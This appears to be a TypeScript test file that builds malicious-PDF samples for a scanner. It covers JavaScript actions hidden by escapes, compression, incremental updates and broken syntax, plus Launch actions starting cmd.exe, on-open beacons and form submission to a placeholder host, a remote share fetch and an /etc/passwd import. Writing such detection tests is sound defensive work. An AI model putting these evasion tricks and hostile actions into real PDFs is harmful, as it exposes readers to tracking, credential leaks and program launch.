import { catalog, form, onLink, page, pdf } from './pdf-pages'
import { packed, updated } from './pdf-shapes'
import { bad, latin, type Sample } from './sample'

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const launch = '<< /S /Launch /F (cmd.exe) >>'

export const pdfScripts: Sample[] = [
  bad('script', 'script.pdf', 'a script on opening', () => pdf({}, `/OpenAction ${script}`)),
  bad('script', 'names.pdf', 'a script among the names', () =>
    pdf({ 6: '<< /Names [(a) 7 0 R] >>', 7: script }, '/Names << /JavaScript 6 0 R >>'),
  ),
  bad('script', 'link.pdf', 'a script on a link', onLink(script)),
  bad('script', 'form.pdf', 'a script in a form', () => pdf({ ...form, 6: `<< /FT /Tx /T (a) /AA << /K ${script} >> >>` })),
  bad('script', 'escaped.pdf', 'its name written with escapes', onLink('<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>')),
  bad('script', 'packed.pdf', 'packed away', () => packed({ ...page, 1: catalog(`/OpenAction ${script}`) })),
  bad('script', 'packed-escaped.pdf', 'packed away with escapes', () => packed({ ...page, 6: '<< /S /#4aavaScript >>' })),
  bad('script', 'typeless.pdf', 'packed away in a stream whose type is hidden', () => packed({ ...page, 6: script }, { type: '' })),
  bad('script', 'packed-update.pdf', 'packed away as a later version', () => Buffer.concat([pdf(), packed({ 9: script }).subarray(15)])),
  bad('script', 'before.pdf', 'in a version that was replaced', () => updated(pdf({ 6: script }), { 6: 'null' })),
  bad('script', 'update.pdf', 'in a version behind', () => updated(pdf(), { 1: catalog(`/OpenAction ${script}`) })),
  bad('script', 'inside.pdf', 'inside of the bytes of a picture', () =>
    pdf({ 6: { dict: '/Subtype /Image', bytes: latin(`x\n9 0 obj\n${script}\nendobj\n`) } }),
  ),
  bad('script', 'unclosed.pdf', 'behind a text that never ends', () => pdf({ 6: '(never closed', 7: script })),
  bad('script', 'comment.pdf', 'behind a comment between the words of an object', () =>
    latin(pdf({ 6: script }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n')),
  ),
  bad('script', 'broken.pdf', 'in an object that breaks off', () => pdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' })),
  bad('script', 'uri.pdf', 'a link that is a script', onLink('<< /S /URI /URI (\\152avascript:alert(1)) >>')),
]

export const pdfActions: Sample[] = [
  bad('launch', 'launch.pdf', 'a program to start', () => pdf({}, `/OpenAction ${launch}`)),
  bad('launch', 'launch-link.pdf', 'a program to start, on a link', onLink(launch)),
  bad('launch', 'launch-packed.pdf', 'a program to start, packed away', () => packed({ ...page, 6: launch })),
  bad('opening', 'beacon.pdf', 'a page fetched on opening', () => pdf({}, '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>')),
  bad('opening', 'beacon-ref.pdf', 'a page fetched on opening, by reference', () =>
    pdf({ 6: '<< /S /URI /URI (http://192.0.2.1/) >>' }, '/OpenAction 6 0 R'),
  ),
  bad('opening', 'chain.pdf', 'a share asked on opening, in a chain', () =>
    pdf({}, '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>'),
  ),
  bad('opening', 'pages.pdf', 'a page fetched whenever a page is shown', () =>
    pdf({ 3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>' }),
  ),
  bad('sends', 'submit.pdf', 'a form that sends', onLink('<< /S /SubmitForm /F (http://192.0.2.1/) >>')),
  bad('sends', 'import.pdf', 'a form that reads files', onLink('<< /S /ImportData /F (/etc/passwd) >>')),
  bad('form', 'xfa.pdf', 'a dynamic form', () => pdf({ 6: { dict: '', bytes: latin('<xdp:xdp/>') } }, '/AcroForm << /XFA 6 0 R >>')),
]
